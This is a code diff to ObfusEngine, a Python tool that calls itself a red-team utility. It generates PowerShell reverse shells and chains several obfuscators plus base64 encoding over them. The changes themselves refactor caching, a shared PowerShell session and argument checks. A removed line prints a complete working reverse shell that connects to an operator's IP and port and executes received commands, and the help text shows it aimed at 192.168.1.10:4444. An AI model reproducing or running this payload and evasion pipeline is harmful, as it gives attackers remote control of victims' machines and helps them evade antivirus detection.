+            runner = self._runners.get(technique)
+            if runner is None:
                 self.logger.error(f"Unknown technique: {technique}")
                 return False
+            
+            cache_entry = self._cache_entry(technique, input_script) if use_cache else None
+            if cache_entry is not None:
+                if cache_entry.exists():
+                    shutil.copyfile(cache_entry, output_script)
+                    # A hit counts as a use, so entries age out from their last use
+                    try:
+                        os.utime(cache_entry)
+                    except OSError:
+                        pass
+                    self.logger.info(f"Technique {technique} served from cache: {cache_entry}")
+                    return True
+            
+            success = runner(input_script, output_script, base_dir)
+            
+            if success and cache_entry is not None:
+                self._store_cached_output(output_script, cache_entry)
+            
+            return success
                 
         except Exception as e:
             self.console.print(f"[red]Error running {technique}: {e}[/]")
             self.logger.error(f"Error running technique {technique}: {e}")
             return False
 
+    def _cache_entry(self, technique, input_script):
+        """Cache file for a technique's output on this input, or None if the tool cannot be stat'ed"""
+        try:
+            tool_stat = os.stat(self.techniques_info[technique]['path'])
+        except OSError:
+            return None
+        # An updated tool (or a change to how it is invoked, via CACHE_VERSION) gets new keys
+        extra = f"{technique}\0{tool_stat.st_mtime_ns}\0{tool_stat.st_size}\0{CACHE_VERSION}".encode()
+        return _cache_dir() / f"{_file_digest(input_script, extra).hex()}.out"
+
+    def _store_cached_output(self, output_script, cache_entry):
+        """Keep a copy of a technique's output for later runs on the same input"""
+        # Copied under a temporary name and renamed, so a failed or interrupted copy is never a hit
+        tmp_entry = cache_entry.with_name(f".{cache_entry.name}.{os.getpid()}.{threading.get_ident()}.tmp")
+        try:
+            _ensure_cache_dir()
+            # Owner-only from creation, like the generated scripts it copies
+            fd = os.open(tmp_entry, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+            with open(output_script, "rb") as fin, os.fdopen(fd, "wb") as fout:
+                shutil.copyfileobj(fin, fout)
+            os.replace(tmp_entry, cache_entry)
+        except OSError as e:
+            self.logger.warning(f"Could not cache technique output: {e}")
+        finally:
+            if _exists(tmp_entry):
+                try:
+                    os.unlink(tmp_entry)
+                except OSError:
+                    pass
+
+    def __del__(self):
+        # Safety net for callers that never reach obfuscate_script's cleanup
+        if getattr(self, '_pwsh', None) is not None:
+            self._close_pwsh_locked()
+
+    def _get_pwsh_session(self):
+        """Return the shared PowerShell host, starting it and preloading modules on first use"""
+        if self._pwsh is None or self._pwsh.poll() is not None:
+            self._pwsh = subprocess.Popen(
+                ["pwsh", "-NoProfile", "-NonInteractive", "-NoLogo", "-Command", "-"],
+                stdin=subprocess.PIPE,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.STDOUT,
+                text=True,
+                bufsize=1
+            )
+            self._pwsh_modules = set()
+            self._pwsh_output = queue.Queue()
+            threading.Thread(
+                target=self._pump_pwsh_output,
+                args=(self._pwsh.stdout, self._pwsh_output),
+                daemon=True
+            ).start()
+            self.logger.info(f"Started PowerShell session (pid {self._pwsh.pid})")
+            
+            # Import every PowerShell module of this run in one go, then wait for the sentinel
+            if self._pwsh_preload:
+                success, output = self._exchange_pwsh(
+                    [f"Import-Module {_ps_quote(module)}" for module in self._pwsh_preload]
+                )
+                if success:
+                    self._pwsh_modules.update(self._pwsh_preload)
+                else:
+                    self.logger.warning(f"PowerShell module preload failed: {output}")
+        return self._pwsh
+
+    @staticmethod
+    def _pump_pwsh_output(stream, lines):
+        """Forward PowerShell output lines to a queue so reads can time out"""
+        for line in stream:
+            lines.put(line)
+        lines.put(None)
+
+    def _run_pwsh(self, module, command, timeout=120):
+        """Run a command in the shared PowerShell session, importing its module only once"""
+        with self._pwsh_lock:
+            if self._get_pwsh_session() is None:
+                return False, "PowerShell session could not be started"
+            
+            statements = []
+            if module not in self._pwsh_modules:
+                statements.append(f"Import-Module {_ps_quote(module)}")
+            statements.append(command)
+            
+            success, output = self._exchange_pwsh(statements, timeout)
+            if success:
+                self._pwsh_modules.add(module)
+            return success, output
+
+    def _exchange_pwsh(self, statements, timeout=120):
+        """Send statements to the session and collect output up to the completion sentinel"""
+        self._pwsh.stdin.write(
+            f"try {{ {'; '.join(statements)}; $obfusOk = $? }} "
+            f"catch {{ $obfusOk = $false; Write-Output $_ }}; "
+            f"Write-Output \"{PWSH_SENTINEL}$obfusOk\"\n"
+        )
+        self._pwsh.stdin.flush()
+        
+        output = []
+        deadline = time.monotonic() + timeout
+        while True:
+            try:
+                line = self._pwsh_output.get(timeout=max(deadline - time.monotonic(), 0))
+            except queue.Empty:
+                self.logger.error(f"PowerShell command timed out after {timeout}s")
+                self._close_pwsh_locked()
+                return False, "".join(output)
+            
+            if line is None:
+                self.logger.error("PowerShell session exited unexpectedly")
+                self._close_pwsh_locked()
+                return False, "".join(output)
+            
+            if line.startswith(PWSH_SENTINEL):
+                return line.strip() == f"{PWSH_SENTINEL}True", "".join(output)
+            
+            output.append(line)
+
+    def close_pwsh_session(self):
+        """Shut down the shared PowerShell session if one is running"""
+        with self._pwsh_lock:
+            self._close_pwsh_locked()
+
+    def _close_pwsh_locked(self):
+        if self._pwsh is None:
+            return
+        try:
+            self._pwsh.stdin.close()
+            self._pwsh.wait(timeout=5)
+        except (OSError, subprocess.TimeoutExpired):
+            self._pwsh.kill()
+        self._pwsh = None
+        self._pwsh_modules = set()
+
     def _run_invoke_technique(self, input_script, output_script, base_dir):
         """Run Invoke-PSObfuscation technique"""
-        invoke_module = base_dir / "Obfuscation_Technique" / "Invoke-PSObfuscation.ps1"
-        if not invoke_module.exists():
+        invoke_module = self.techniques_info['invoke']['path']
+        if not self._is_available('invoke'):
             self.console.print(f"[red]❌ Module not found: {invoke_module}[/]")
             return False
         
-        # Use shlex.quote for safe shell argument handling
-        safe_module = shlex.quote(str(invoke_module))
-        safe_input = shlex.quote(str(input_script))
-        safe_output = shlex.quote(str(output_script))
-        
-        cmd = (
-            f"pwsh -Command \"Import-Module {safe_module}; "
-            f"Invoke-PSObfuscation -Path {safe_input} -Cmdlets -Comments "
-            f"-NamespaceClasses -Variables -OutFile {safe_output}\""
+        success, output = self._run_pwsh(
+            invoke_module,
+            f"Invoke-PSObfuscation -Path {_ps_quote(input_script)} -Cmdlets -Comments "
+            f"-NamespaceClasses -Variables -OutFile {_ps_quote(output_script)}"
         )
         
-        result = subprocess.run(
-            cmd, 
-            shell=True, 
-            capture_output=True, 
-            text=True, 
-            timeout=120  # 2 minute timeout
-        )
-        
-        if result.returncode != 0:
-            self.logger.error(f"Invoke technique failed: {result.stderr}")
+        if not success:
+            self.logger.error(f"Invoke technique failed: {output}")
             return False
         
-        return output_script.exists()
+        return _exists(output_script)
 
     def _run_xencrypt_technique(self, input_script, output_script, base_dir):
         """Run BetterXencrypt technique"""
-        betterx_path = base_dir / "Obfuscation_Technique" / "BetterXencrypt.ps1"
-        if not betterx_path.exists():
+        betterx_path = self.techniques_info['xencrypt']['path']
+        if not self._is_available('xencrypt'):
             self.console.print(f"[red]❌ Module not found: {betterx_path}[/]")
             return False
         
-        safe_module = shlex.quote(str(betterx_path))
-        safe_input = shlex.quote(str(input_script))
-        safe_output = shlex.quote(str(output_script))
-        
-        cmd = (
-            f"pwsh -Command \"Import-Module {safe_module}; "
-            f"Invoke-BetterXencrypt -InFile {safe_input} "
-            f"-OutFile {safe_output} -Iterations 10\""
-        )
-        
-        result = subprocess.run(
-            cmd, 
-            shell=True, 
-            capture_output=True, 
-            text=True, 
-            timeout=120
+        success, output = self._run_pwsh(
+            betterx_path,
+            f"Invoke-BetterXencrypt -InFile {_ps_quote(input_script)} "
+            f"-OutFile {_ps_quote(output_script)} -Iterations 10"
         )
         
-        if result.returncode != 0:
-            self.logger.error(f"Xencrypt technique failed: {result.stderr}")
+        if not success:
+            self.logger.error(f"Xencrypt technique failed: {output}")
             return False
         
-        return output_script.exists()
+        return _exists(output_script)
 
     def _run_chameleon_technique(self, input_script, output_script, base_dir):
         """Run Chameleon technique"""
-        chameleon = base_dir / "Obfuscation_Technique" / "Chameleon" / "chameleon.py"
-        if not chameleon.exists():
+        chameleon = self.techniques_info['chameleon']['path']
+        if not self._is_available('chameleon'):
             self.console.print(f"[red]❌ Script not found: {chameleon}[/]")
             return False
         
-        safe_chameleon = shlex.quote(str(chameleon))
-        safe_input = shlex.quote(str(input_script))
-        safe_output = shlex.quote(str(output_script))
-        
-        cmd = f"python3 {safe_chameleon} {safe_input} -o {safe_output} -a -l 3 --random-backticks"
+        cmd = [
+            "python3", str(chameleon), str(input_script),
+            "-o", str(output_script), "-a", "-l", "3", "--random-backticks"
+        ]
         
         result = subprocess.run(
             cmd, 
-            shell=True, 
-            capture_output=True, 
+            stdout=subprocess.DEVNULL, 
+            stderr=subprocess.PIPE, 
             text=True, 
             timeout=120
         )
@@ -573,40 +1027,36 @@ class ObfuscationTool:
             self.logger.error(f"Chameleon technique failed: {result.stderr}")
             return False
         
-        return output_script.exists()
+        return _exists(output_script)
 
     def _run_pyfuscation_technique(self, input_script, output_script, base_dir):
         """Run PyFuscation technique"""
-        pyfuscation = base_dir / "Obfuscation_Technique" / "PyFuscation" / "PyFuscation.py"
-        tmp_dir = base_dir / "Obfuscation_Technique" / "PyFuscation" / "tmp"
+        pyfuscation = self.techniques_info['pyfuscation']['path']
+        tmp_dir = pyfuscation.parent / "tmp"
 
-        if not pyfuscation.exists():
+        if not self._is_available('pyfuscation'):
             self.console.print(f"[red]❌ Script not found: {pyfuscation}[/]")
             return False
         
-        safe_pyfuscation = shlex.quote(str(pyfuscation))
-        safe_input = shlex.quote(str(input_script))
-        
-        cmd = f"python3 {safe_pyfuscation} -fvp --ps {safe_input}"
+        cmd = ["python3", str(pyfuscation), "-fvp", "--ps", str(input_script)]
         
         result = subprocess.run(
             cmd, 
-            shell=True, 
-            capture_output=True, 
+            stdout=subprocess.DEVNULL, 
+            stderr=subprocess.PIPE, 
             text=True, 
             timeout=120
         )
         
         # PyFuscation has different success conditions
         output_file = tmp_dir / "script.ps1"
-        if output_file.exists():
+        if _exists(output_file):
             try:
-                obf_text = output_file.read_text()
-                output_script.write_text(obf_text)
+                # A rename on the same filesystem; tmp_dir is discarded right after
+                shutil.move(str(output_file), str(output_script))
                 
                 # Clean up tmp directory
-                if tmp_dir.exists():
-                    shutil.rmtree(tmp_dir, ignore_errors=True)
+                shutil.rmtree(tmp_dir, ignore_errors=True)
                 
                 return True
             except Exception as e:
@@ -620,26 +1070,36 @@ class ObfuscationTool:
 
     def show_results(self, args, input_script, workspace):
         """Display results with enhanced formatting and security"""
-        output_script = workspace / args.output_name
+        from rich.align import Align
+        from rich.panel import Panel
+        from rich.table import Table
         
-        results_panel = Panel.fit(
-            Align.center("[bold green]🎉 ObfusEngine - Obfuscation Complete! 🎉[/]"),
-            style="green"
-        )
-        self.console.print(results_panel)
+        output_script = args._output_script
+        
+        if self.console.is_terminal:
+            results_panel = Panel.fit(
+                Align.center("[bold green]🎉 ObfusEngine - Obfuscation Complete! 🎉[/]"),
+                style="green"
+            )
+            self.console.print(results_panel)
+        else:
+            self.console.print("🎉 ObfusEngine - Obfuscation Complete! 🎉")
         
         # Results summary
         summary_table = Table(title="📊 Results Summary", show_header=True)
         summary_table.add_column("Property", style="cyan")
         summary_table.add_column("Value", style="white")
         
-        if output_script.exists():
+        # Read the output once; size, comparison view and clipboard all share it
+        obfuscated_bytes = output_script.read_bytes() if output_script.exists() else None
+        
+        if obfuscated_bytes is not None:
             if isinstance(input_script, Path) and input_script.exists():
                 original_size = input_script.stat().st_size
             else:
                 original_size = len(str(input_script)) if input_script else 0
             
-            obfuscated_size = output_script.stat().st_size
+            obfuscated_size = len(obfuscated_bytes)
             
             summary_table.add_row("Original Size", f"{original_size:,} bytes")
             summary_table.add_row("Obfuscated Size", f"{obfuscated_size:,} bytes")
@@ -647,42 +1107,70 @@ class ObfuscationTool:
             summary_table.add_row("Output File", str(output_script))
             
             if args.encode:
-                encoded_path = workspace / f"{Path(args.output_name).stem}_base64.txt"
-                summary_table.add_row("Encoded File", str(encoded_path))
+                summary_table.add_row("Encoded File", str(args._encoded_path))
         
         self.console.print(summary_table)
         
-        if args.view and output_script.exists():
-            self.show_script_comparison(input_script, output_script, workspace, args)
+        if args.view and obfuscated_bytes is not None:
+            self.show_script_comparison(input_script, output_script, workspace, args, obfuscated_bytes.decode())
         
         # Enhanced clipboard handling with error checking
         try:
-            obfuscated_content = output_script.read_text()
-            pyperclip.copy(obfuscated_content)
+            if obfuscated_bytes is None:
+                obfuscated_bytes = output_script.read_bytes()
+            self._fast_clip_copy(obfuscated_bytes)
             self.console.print("\n[bold orange]📋 Script copied to clipboard![/]")
             self.logger.info("Script copied to clipboard successfully")
         except Exception as e:
             self.console.print(f"\n[bold red]❌ Failed to copy to clipboard: {e}[/]")
             self.logger.error(f"Clipboard copy failed: {e}")
 
-    def show_script_comparison(self, input_script, output_script, workspace, args):
+    @staticmethod
+    def _detect_clip_cmd():
+        """Native clipboard command to pipe into on Linux, or None to leave it to pyperclip"""
+        if not sys.platform.startswith('linux'):
+            return None
+        if os.environ.get('WAYLAND_DISPLAY') and shutil.which('wl-copy'):
+            return ['wl-copy']
+        if shutil.which('xclip'):
+            return ['xclip', '-selection', 'clipboard']
+        return None
+
+    def _fast_clip_copy(self, data):
+        """Copy bytes to the clipboard, piping straight into wl-copy/xclip when available"""
+        if self._clip_cmd:
+            try:
+                proc = subprocess.Popen(self._clip_cmd, stdin=subprocess.PIPE, close_fds=True)
+                proc.communicate(data)
+                if proc.returncode == 0:
+                    return
+                self.logger.warning(f"{self._clip_cmd[0]} exited with {proc.returncode}, falling back to pyperclip")
+            except OSError:
+                pass
+        
+        import pyperclip
+        pyperclip.copy(data.decode())
+
+    def show_script_comparison(self, input_script, output_script, workspace, args, obfuscated_content=None):
         """Show side-by-side script comparison with content truncation for security"""
+        from rich.columns import Columns
+        from rich.panel import Panel
+        
         self.console.print("\n[bold blue]📋 Script Comparison[/]")
         
         max_display_length = 500
         
         # Original script
         if isinstance(input_script, Path) and input_script.exists():
-            original_content = input_script.read_text()
-            if len(original_content) > max_display_length:
-                original_content = original_content[:max_display_length] + "\n... (truncated)"
+            original_content = _read_head(input_script, max_display_length)
         else:
             original_content = str(input_script)
-            if len(original_content) > max_display_length:
-                original_content = original_content[:max_display_length] + "\n... (truncated)"
+        if len(original_content) > max_display_length:
+            original_content = original_content[:max_display_length] + "\n... (truncated)"
         
         # Obfuscated script
-        obfuscated_content = output_script.read_text()
+        if obfuscated_content is None:
+            obfuscated_content = _read_head(output_script, max_display_length)
         if len(obfuscated_content) > max_display_length:
             obfuscated_content = obfuscated_content[:max_display_length] + "\n... (truncated)"
         
@@ -703,32 +1191,27 @@ class ObfuscationTool:
         self.console.print(columns)
         
         if args.encode:
-            encoded_path = workspace / f"{Path(args.output_name).stem}_base64.txt"
+            encoded_path = args._encoded_path
             if encoded_path.exists():
                 self.console.print(f"\n[bold cyan]🔐 Base64 Encoded Version:[/]")
                 try:
-                    encoded_content = encoded_path.read_text()
+                    encoded_content = _read_head(encoded_path, 200)
                     if len(encoded_content) > 200:
                         encoded_content = encoded_content[:200] + "\n... (truncated)"
                     
-                    encoded_panel = Panel(
-                        encoded_content,
-                        title="[bold yellow]Base64 Encoded[/]",
-                        border_style="yellow"
-                    )
-                    self.console.print(encoded_panel)
+                    if self.console.is_terminal:
+                        encoded_panel = Panel(
+                            encoded_content,
+                            title="[bold yellow]Base64 Encoded[/]",
+                            border_style="yellow"
+                        )
+                        self.console.print(encoded_panel)
+                    else:
+                        self.console.print(encoded_content, markup=False)
                 except Exception as e:
                     self.console.print(f"[red]❌ Error reading encoded file: {e}[/]")
 
-def setup_argparse():
-    """Setup argument parser with enhanced validation"""
-    # Get program name from environment variable or default
-    prog_name = os.environ.get('OBFUS_PROG_NAME', 'obfusengine')
-    parser = argparse.ArgumentParser(
-        prog=prog_name,
-        description="🔒 ObfusEngine v1.0.0 - Advanced Script Obfuscation Engine\nGenerates and obfuscates scripts for red team operations\n\nAuthor: Vibhas Dutta\nGitHub: https://github.com/vibhasdutta/ObfusEngine",
-        formatter_class=argparse.RawDescriptionHelpFormatter,
-        epilog="""
+HELP_EPILOG = """
 Examples:
   %(prog)s                                         # Interactive mode (default)
   %(prog)s -i 192.168.1.10 -p 4444 -t all        # Generate & obfuscate reverse shell
@@ -740,23 +1223,51 @@ Note: Interactive mode launches automatically when sufficient arguments aren't p
 
 Report bugs: https://github.com/vibhasdutta/ObfusEngine/issues
         """
+
+def _ip_arg(value):
+    """argparse type for -i: reject anything that is not an IP address at parse time"""
+    if not _is_valid_ip(value):
+        raise argparse.ArgumentTypeError(f"invalid IP address: {value}")
+    return value
+
+def _port_arg(value):
+    """argparse type for -p: an integer port in 1-65535"""
+    try:
+        port = int(value)
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"invalid port number: {value}")
+    if not 1 <= port <= 65535:
+        raise argparse.ArgumentTypeError(f"port must be between 1 and 65535: {value}")
+    return port
+
+def setup_argparse():
+    """Setup argument parser with enhanced validation"""
+    # Get program name from environment variable or default
+    prog_name = os.environ.get('OBFUS_PROG_NAME', 'obfusengine')
+    parser = argparse.ArgumentParser(
+        prog=prog_name,
+        description="🔒 ObfusEngine v1.0.0 - Advanced Script Obfuscation Engine\nGenerates and obfuscates scripts for red team operations\n\nAuthor: Vibhas Dutta\nGitHub: https://github.com/vibhasdutta/ObfusEngine",
+        formatter_class=argparse.RawDescriptionHelpFormatter,
+        epilog=HELP_EPILOG
     )
     
     # Input options
     input_group = parser.add_argument_group('Input Options')
     input_group.add_argument("-I", "--input-script", help="Path to existing script (PowerShell or Python)")
-    input_group.add_argument("-i", "--ip", help="Target IP address for generated reverse shell")
-    input_group.add_argument("-p", "--port", type=int, help="Target port number for reverse shell")
+    input_group.add_argument("-i", "--ip", type=_ip_arg, help="Target IP address for generated reverse shell")
+    input_group.add_argument("-p", "--port", type=_port_arg, help="Target port number for reverse shell")
     input_group.add_argument("--hxshell", action="store_true", help="Use Hoaxshell Payload as input script")
     
     # Obfuscation options
     obf_group = parser.add_argument_group('Obfuscation Options')
     obf_group.add_argument("-t", "--technique", help="Comma-separated techniques: invoke,xencrypt,chameleon,pyfuscation,all")
-    obf_group.add_argument("--version", action="version", version="ObfusEngine v1.0.0")
+    obf_group.add_argument("--parallel", action="store_true", help="Run techniques independently on the original script instead of chaining them")
+    obf_group.add_argument("--no-cache", action="store_true", help="Always rerun techniques instead of reusing cached output (kept in ~/.cache/obfusengine), and re-check the environment")
+    obf_group.add_argument("--version", action="version", version=VERSION)
     
     # Output options
     output_group = parser.add_argument_group('Output Options')
-    output_group.add_argument("-d", "--directory", default=str(Path.cwd()), help="Working directory")
+    output_group.add_argument("-d", "--directory", help="Working directory (default: current directory)")
     output_group.add_argument("-oN", "--output-name", default="obfuscated.ps1", help="Output filename (defaults to .ps1 if no extension given)")
     output_group.add_argument("-e", "--encode", action="store_true", help="Base64 encode the output")
     output_group.add_argument("-v", "--view", action="store_true", help="Show script contents verbosely")
@@ -765,18 +1276,28 @@ Report bugs: https://github.com/vibhasdutta/ObfusEngine/issues
 
 def main():
     """Main function with enhanced error handling and security"""
+    # Answer a bare version query without building the parser at all
+    if sys.argv[1:] == ["--version"]:
+        print(VERSION)
+        sys.exit(0)
+    
+    # Stays None until rich is loaded, so the handlers below know whether they can use the console
+    tool = None
     try:
-        tool = ObfuscationTool()
+        # Parse first so --help/--version exit before rich is loaded
         args = setup_argparse()
-        
-        # Add default .ps1 extension if none provided
-        if not Path(args.output_name).suffix:
-            args.output_name += ".ps1"
+        tool = ObfuscationTool()
         
         # Interactive mode is now default - only skip if specific args provided
         if not (args.technique and (args.input_script or args.hxshell or (args.ip and args.port))):
             args = tool.interactive_mode()
         
+        # Add default .ps1 extension if none provided; parsed once, and the stem is the same either way
+        output_name = PurePath(args.output_name)
+        if not output_name.suffix:
+            args.output_name += ".ps1"
+        args._output_stem = output_name.stem
+        
         # Enhanced validation
         if not args.input_script and not args.hxshell and not (args.ip and args.port):
             tool.console.print("[bold red]❌ Error: Configuration incomplete[/]")
@@ -786,31 +1307,37 @@ def main():
         if not args.technique:
             tool.console.print("[bold red]❌ Error: Technique parameter is required[/]")
             sys.exit(1)
+        args.techniques = tool._parse_techniques(args.technique)
         
-        # Validate IP and port if provided
-        if args.ip and not tool.validate_ip(args.ip):
-            tool.console.print(f"[bold red]❌ Error: Invalid IP address: {args.ip}[/]")
-            sys.exit(1)
-        
-        if args.port and not (1 <= args.port <= 65535):
-            tool.console.print(f"[bold red]❌ Error: Invalid port number: {args.port}[/]")
-            sys.exit(1)
+        # IP and port were already checked by their argparse types (or the interactive prompts)
         
         # Setup directories with proper validation
         base_dir = tool.get_base_dir()
-        workspace = Path(args.directory).resolve() / "ObfusWorkspace"
+        work_dir = _fast_resolve(args.directory) if args.directory else _cwd()
+        workspace = work_dir / "ObfusWorkspace"
         
-        try:
-            workspace.mkdir(parents=True, exist_ok=True)
-        except PermissionError:
-            tool.console.print(f"[red]❌ Permission denied creating workspace: {workspace}[/]")
-            sys.exit(1)
-        except Exception as e:
-            tool.console.print(f"[red]❌ Error creating workspace: {e}[/]")
-            sys.exit(1)
+        # Warm runs reuse the workspace, so a stat replaces the mkdir attempt
+        if not os.path.isdir(workspace):
+            try:
+                workspace.mkdir(parents=True, exist_ok=True)
+            except PermissionError:
+                tool.console.print(f"[red]❌ Permission denied creating workspace: {workspace}[/]")
+                sys.exit(1)
+            except OSError as e:
+                tool.console.print(f"[red]❌ Error creating workspace: {e}[/]")
+                sys.exit(1)
         
-        # Validate environment
-        tool.validate_environment(base_dir)
+        # Validate environment, unless a previous run found every tool and no tool file changed since
+        # (the folders themselves are not compared: PyFuscation creates and removes tmp/ on every run)
+        env_marker = _env_marker(base_dir)
+        tool_files = [info['path'] for info in tool.techniques_info.values()]
+        if args.no_cache or not _env_is_fresh(env_marker, tool_files):
+            if tool.validate_environment(base_dir):
+                try:
+                    _ensure_cache_dir()
+                    env_marker.touch(mode=0o600)
+                except OSError:
+                    pass
         
         # Prepare input script with enhanced security
         if args.hxshell:
@@ -824,45 +1351,59 @@ def main():
             
             input_script = workspace / "clipboard_script.ps1"
             try:
-                input_script.write_text(clipboard_content)
+                _fast_write(input_script, clipboard_content)
                 tool.console.print(f"[green]✅ Script from clipboard saved to temporary file[/]")
-            except Exception as e:
+            except OSError as e:
                 tool.console.print(f"[red]❌ Error saving clipboard content: {e}[/]")
                 sys.exit(1)
                 
         elif args.input_script:
-            input_script = Path(args.input_script).resolve()
-            if not tool.validate_script_path(input_script):
-                tool.console.print(f"[red]❌ Error: Invalid or unsafe input script: {input_script}[/]")
+            # Validated as given, so a symlinked input is rejected before anything resolves it
+            if not tool.validate_script_path(args.input_script):
+                tool.console.print(f"[red]❌ Error: Invalid or unsafe input script: {args.input_script}[/]")
                 sys.exit(1)
+            input_script = _fast_resolve(str(args.input_script))
             tool.console.print(f"[green]✅ Using custom script: {input_script}[/]")
         else:
             # Auto-generate reverse shell with input validation
-            ps_script = f'''$LHOST = "{args.ip}"; $LPORT = {args.port}; $TCPClient = New-Object Net.Sockets.TCPClient($LHOST, $LPORT); $NetworkStream = $TCPClient.GetStream(); $StreamReader = New-Object IO.StreamReader($NetworkStream); $StreamWriter = New-Object IO.StreamWriter($NetworkStream); $StreamWriter.AutoFlush = $true; $Buffer = New-Object System.Byte[] 1024; while ($TCPClient.Connected) {{ while ($NetworkStream.DataAvailable) {{ $RawData = $NetworkStream.Read($Buffer, 0, $Buffer.Length); $Code = ([text.encoding]::UTF8).GetString($Buffer, 0, $RawData -1) }}; if ($TCPClient.Connected -and $Code.Length -gt 1) {{ $Output = try {{ Invoke-Expression ($Code) 2>&1 }} catch {{ $_ }}; $StreamWriter.Write("$Output`n"); $Code = $null }} }}; $TCPClient.Close(); $NetworkStream.Close(); $StreamReader.Close(); $StreamWriter.Close()'''
+            ps_script = _REV_SHELL_TPL.substitute(ip=args.ip, port=args.port)
             
             input_script = workspace / "reverse_shell.ps1"
             try:
-                input_script.write_text(ps_script)
+                _fast_write(input_script, ps_script)
                 tool.console.print(f"[green]✅ Auto-generated reverse shell script[/]")
-            except Exception as e:
+            except OSError as e:
                 tool.console.print(f"[red]❌ Error creating reverse shell script: {e}[/]")
                 sys.exit(1)
         
         # Run obfuscation
-        tool.console.print(Panel.fit("🚀 Starting Obfuscation Process", style="bold blue"))
+        # Decorative frames only on a terminal; piped output gets the plain line
+        if tool.console.is_terminal:
+            from rich.panel import Panel
+            tool.console.print(Panel.fit("🚀 Starting Obfuscation Process", style="bold blue"))
+        else:
+            tool.console.print("🚀 Starting Obfuscation Process")
         success = tool.obfuscate_script(args, input_script, workspace, base_dir)
         
         if success:
             # Handle base64 encoding with error handling
             if args.encode:
-                output_script = workspace / args.output_name
-                encoded_path = workspace / f"{Path(args.output_name).stem}_base64.txt"
+                output_script = args._output_script
+                encoded_path = args._encoded_path
                 try:
-                    with open(output_script, "rb") as f:
-                        encoded_data = base64.b64encode(f.read()).decode()
-                    encoded_path.write_text(encoded_data)
+                    # Optional SIMD-accelerated drop-in for large encoded outputs
+                    from pybase64 import b64encode
+                except ImportError:
+                    # Same C routine base64.b64encode wraps, minus the Python-level call
+                    from binascii import b2a_base64
+                    b64encode = partial(b2a_base64, newline=False)
+                
+                try:
+                    with open(output_script, "rb") as fin, open(encoded_path, "wb") as fout:
+                        while chunk := fin.read(BASE64_CHUNK_SIZE):
+                            fout.write(b64encode(chunk))
                     tool.console.print(f"[cyan]🔐 Base64 encoded output saved[/]")
-                except Exception as e:
+                except OSError as e:
                     tool.console.print(f"[red]❌ Error creating base64 encoded file: {e}[/]")
             
             # Show results
@@ -872,11 +1413,27 @@ def main():
             sys.exit(1)
             
     except KeyboardInterrupt:
-        print("\n[bold red]❌ Operation cancelled by user[/]")
+        if tool is not None:
+            tool.console.print("\n[bold red]❌ Operation cancelled by user[/]")
+        else:
+            sys.stderr.write("\nOperation cancelled by user\n")
         sys.exit(1)
     except Exception as e:
-        print(f"[bold red]❌ Unexpected error: {e}[/]")
-        logging.error(f"Unexpected error in main: {e}")
+        if tool is not None:
+            from rich.markup import escape
+            tool.console.print(f"[bold red]❌ Unexpected error: {escape(str(e))}[/]")
+        else:
+            sys.stderr.write(f"Unexpected error: {e}\n")
+        logger = logging.getLogger(__name__)
+        # Only set up a plain file handler if the failure came before ObfuscationTool configured logging
+        if not logger.handlers:
+            try:
+                logging.basicConfig(level=logging.ERROR, filename=_install_dir() / "obfusengine.log",
+                                    format='%(asctime)s - %(levelname)s - %(message)s')
+            except OSError:
+                # Log file not writable (e.g. a root-owned install); the message above already went to stderr
+                sys.exit(1)
+        logger.error("Unexpected error in main: %s", e)
         sys.exit(1)
 
 if __name__ == "__main__":